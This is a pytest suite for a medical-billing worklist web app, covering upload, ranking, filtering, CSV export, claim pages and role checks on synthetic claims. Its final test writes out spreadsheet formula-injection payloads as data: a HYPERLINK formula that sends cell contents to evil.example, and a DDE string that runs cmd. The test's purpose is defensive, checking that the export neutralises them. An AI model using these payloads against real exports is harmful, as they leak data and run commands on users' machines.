"""The biller's pages: upload, the worklist ranked as the API ranks it, filters, export, one claim."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import date
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from data.loaders.canonical import claims_for_file
from data.loaders.tables import write_table
from data.spreadsheet import NUMBER
from data.synthetic.claims import generate_claims
from data.worklist_items import WorklistView
from data.x12.writer import write_837p
from models.tasks import caller_records, get_task
from tests.bodies import signed_in, upload
from tests.helpers import BILLER

CLAIMS = 120


@pytest.fixture(scope="module")
def claims_csv(tmp_path_factory: pytest.TempPathFactory) -> Path:
    frame = generate_claims(CLAIMS, seed=808)
    frame["claim_id"] = [f"WL{i:05d}" for i in range(len(frame))]
    return write_table(claims_for_file(frame), tmp_path_factory.mktemp("worklist") / "claims.csv")


def exported(client: TestClient, query: str = "") -> list[dict]:
    response = client.get(f"/app/worklist.csv?{query}")
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.text)))


def test_uploaded_claims_rank_as_the_api_ranks_them(client: TestClient, claims_csv: Path) -> None:
    csrf = signed_in(client, "biller")
    assert upload(client, csrf, claims_csv).startswith(f"{CLAIMS} claims added")
    rows = [r for r in exported(client, "status=all") if r["claim_id"].startswith("WL")]
    assert len(rows) == CLAIMS
    records = caller_records(get_task("denial"), get_task("denial").load(claims_csv).valid)
    api = client.post("/v1/denial/worklist", json={"claims": records, "limit": 1000}, headers=BILLER).json()
    assert [r["claim_id"] for r in rows] == [item["claim_id"] for item in api["items"]]
    for row, item in zip(rows, api["items"], strict=True):
        assert float(row["dollars_at_risk"]) == pytest.approx(item["dollars_at_risk"], abs=0.01)


def test_filters_narrow_the_view_and_the_export_follows_them(client: TestClient, claims_csv: Path) -> None:
    csrf = signed_in(client, "biller")
    upload(client, csrf, claims_csv)
    everything = [r for r in exported(client, "status=all") if r["claim_id"].startswith("WL")]
    payer = everything[0]["payer_id"]
    narrowed = exported(client, f"status=all&payer={payer}&min_probability=0.2&sort=probability")
    expected = [r for r in everything if r["payer_id"] == payer and float(r["denial_probability"]) >= 0.2]
    assert {r["claim_id"] for r in narrowed} == {r["claim_id"] for r in expected} and narrowed
    probabilities = [float(r["denial_probability"]) for r in narrowed]
    assert probabilities == sorted(probabilities, reverse=True)
    page = client.get(f"/app/worklist?status=all&payer={payer}&min_probability=0.2").text
    assert f"{len(narrowed)} of" in page


def test_a_claims_page_shows_lines_reasons_and_fixes_and_takes_a_status(
    client: TestClient, claims_csv: Path
) -> None:
    csrf = signed_in(client, "biller")
    upload(client, csrf, claims_csv)
    page = client.get("/app/worklist").text
    handle = re.search(r'href="/app/claim/(\d+)"', page).group(1)
    claim = client.get(f"/app/claim/{handle}")
    assert claim.status_code == 200
    html = claim.text
    assert "<h2>Lines</h2>" in html and "<h2>Likely reasons</h2>" in html
    assert re.search(r"<td>\d+, \d+", html)  # CARCs beside each reason
    marked = client.post(f"/app/claim/{handle}/status", data={"csrf": csrf, "status": "submitted"})
    assert marked.status_code == 200 and "Status: <strong>submitted</strong>" in marked.text
    assert f'href="/app/claim/{handle}"' not in client.get("/app/worklist").text  # open claims only
    assert (
        client.post(f"/app/claim/{handle}/status", data={"csrf": "no", "status": "open"}).status_code == 403
    )


def test_an_837_uploads_and_bad_files_and_rows_are_explained(client: TestClient, tmp_path: Path) -> None:
    csrf = signed_in(client, "biller")
    frame = generate_claims(30, seed=909)
    frame["claim_id"] = [f"X837{i:03d}" for i in range(len(frame))]
    path = write_837p(caller_records(get_task("denial"), frame), tmp_path / "batch.837")
    assert upload(client, csrf, path).startswith("30 claims added")
    bad = tmp_path / "notes.csv"
    bad.write_text("hello,world\n1,2\n")
    assert "neither a claims CSV nor an 837" in upload(client, csrf, bad) or "rows not valid" in upload(
        client, csrf, bad
    )


def test_schedulers_may_not_open_the_worklist(client: TestClient) -> None:
    signed_in(client, "scheduler")
    assert client.get("/app/worklist").status_code == 403
    assert client.get("/app/worklist.csv").status_code == 403


def test_claims_to_submit_are_queued_on_the_worklist_from_the_command_line(
    trained_store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from typer.testing import CliRunner

    from cli import app
    from data.loaders.tables import read_table
    from data.stores.worklist import WorklistStore
    from data.synthetic.tomorrow import claims_to_submit

    claims = read_table(trained_store.claims)
    to_submit = claims_to_submit(claims, date(2027, 6, 7), rows=50)
    assert len(to_submit) == 50 and "denied" not in to_submit.columns
    assert (to_submit["submitted_at"] == "2027-06-07").all() and to_submit["claim_id"].str.startswith(
        "S"
    ).all()
    assert not any("denied" in line for lines in to_submit["service_lines"] for line in json.loads(lines))
    url = f"sqlite:///{tmp_path / 'careops.db'}"
    for name, value in {
        "CAREOPS_DATABASE_URL": url,
        "MLFLOW_TRACKING_URI": trained_store.settings.tracking_uri,
    }.items():
        monkeypatch.setenv(name, value)
    result = CliRunner().invoke(app, ["queue", str(write_table(to_submit, tmp_path / "to-submit.csv"))])
    assert result.exit_code == 0, result.output
    assert "50 claims added" in result.output
    items = WorklistStore(url).view(WorklistView(), None, None).items
    assert len(items) == 50 and all(0 < i.probability < 1 and i.status == "open" for i in items)


def test_claims_awaiting_a_remittance_come_from_the_claim_store(client: TestClient, trained_store) -> None:
    from data.loaders.canonical import load_claims
    from data.stores.claims import ClaimStore

    frame = generate_claims(12, seed=911)
    frame["claim_id"] = [f"AW{i:03d}" for i in range(len(frame))]
    frame[["denied", "denial_category", "adjudicated_at"]] = None
    frame["service_lines"] = [[{k: v for k, v in line.items() if k not in ("denied", "denial_category")}
                               for line in lines] for lines in frame["service_lines"]]  # fmt: skip
    ClaimStore(trained_store.settings.database_url).record(load_claims(claims_for_file(frame)).valid)
    csrf = signed_in(client, "biller")
    response = client.post("/app/worklist/from-store", data={"csrf": csrf})
    assert response.status_code == 200 and "awaiting a remittance" in response.text
    listed = {r["claim_id"] for r in exported(client, "status=all")}
    assert {f"AW{i:03d}" for i in range(12)} <= listed


def test_the_export_holds_no_live_formula(client: TestClient, tmp_path: Path) -> None:
    payloads = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1,1)", "-2+3"]
    frame = generate_claims(len(payloads), seed=77)
    frame["claim_id"] = payloads
    frame["payer_id"] = payloads
    path = write_table(claims_for_file(frame), tmp_path / "formulas.csv")
    csrf = signed_in(client, "biller")
    assert upload(client, csrf, path).startswith(f"{len(payloads)} claims added")
    response = client.get("/app/worklist.csv?status=all")
    rows = list(csv.reader(io.StringIO(response.text)))
    cells = [cell for row in rows[1:] for cell in row[1:3] if cell.lstrip("'") in payloads]
    assert len(cells) == 2 * len(payloads)
    assert all(cell.startswith("'") for cell in cells)
    live = [c for r in rows[1:] for c in r if c.startswith(("=", "+", "-", "@")) and not NUMBER.fullmatch(c)]
    assert live == []  # a number stays a number (a deadline passed 40 days ago is -40 days left)
    assert any(NUMBER.fullmatch(c) and c.startswith("-") for r in rows[1:] for c in r)
